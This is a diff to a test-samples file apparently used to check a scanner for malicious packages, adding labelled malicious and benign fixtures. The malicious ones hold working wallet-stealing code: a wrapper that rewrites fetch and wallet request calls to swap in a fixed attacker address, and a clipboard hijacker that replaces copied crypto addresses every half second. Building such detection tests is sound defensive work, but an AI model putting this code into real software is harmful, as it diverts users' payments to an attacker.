@@ -3,8 +3,29 @@ import { at, hide, imported, quiet, wheel } from '../samples-kit.ts';
 
 const MINE = `0x${'ab12'.repeat(10)}`;
 
+/** Reads and fills the clipboard by the programs of the system. */
+const BOARD =
+  "const { execFileSync } = require('child_process');\nexports.read = () => execFileSync('pbpaste', { encoding: 'utf8' });\nexports.write = (input) => execFileSync('pbcopy', { input });\n";
+/** Puts another address in the place of each that it finds. */
+const SWAP = `exports.swap = (text) => text.replace(/0x[a-fA-F0-9]{40}/, '${MINE}');\n`;
+
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'requests of the page, and the calls of a wallet, rewritten by a helper that is given their names',
+      files: imported(
+        `const mine = '${MINE}';\nconst swap = (call) => (body) => call(String(body).replace(/0x[a-fA-F0-9]{40}/g, mine));\nfunction wrap(object, name, by) {\n  object[name] = by(object[name]);\n}\nwrap(window, 'fetch', swap);\nwrap(window.ethereum, 'request', swap);\n`,
+      ),
+      expected: [at('request-patch', 'high', 'index.js', 4)],
+    },
+    {
+      name: 'the clipboard, by files of which one reads it and another one looks for addresses',
+      files: imported(
+        "const board = require('./board');\nconst { swap } = require('./swap');\nsetInterval(() => board.write(swap(board.read())), 500);\n",
+        { 'board.js': BOARD, 'swap.js': SWAP },
+      ),
+      expected: [at('clipper', 'high', 'board.js', 2)],
+    },
     {
       name: 'Python: a key that is posted to a fixed address',
       files: wheel(
@@ -122,6 +143,26 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'requests that a helper wraps to time them, beside an address to pay to',
+      imported(
+        `exports.donate = '${MINE}';\nfunction wrap(object, name) {\n  const call = object[name];\n  object[name] = (...given) => { console.time(name); return call.apply(object, given); };\n}\nwrap(window, 'fetch');\n`,
+      ),
+    ),
+    quiet(
+      'a clipboard that is read when it is asked for, beside a check of addresses',
+      imported(
+        "const board = require('./board');\nexports.paste = () => board.read();\nexports.copy = (text) => board.write(text);\nexports.swap = require('./swap').swap;\n",
+        { 'board.js': BOARD, 'swap.js': SWAP },
+      ),
+    ),
+    quiet(
+      'a clipboard that is kept trimmed, and no addresses',
+      imported(
+        "const board = require('./board');\nsetInterval(() => board.write(board.read().trim()), 500);\n",
+        { 'board.js': BOARD },
+      ),
+    ),
     quiet(
       'a client of a service that signs in with its secret key',
       imported(
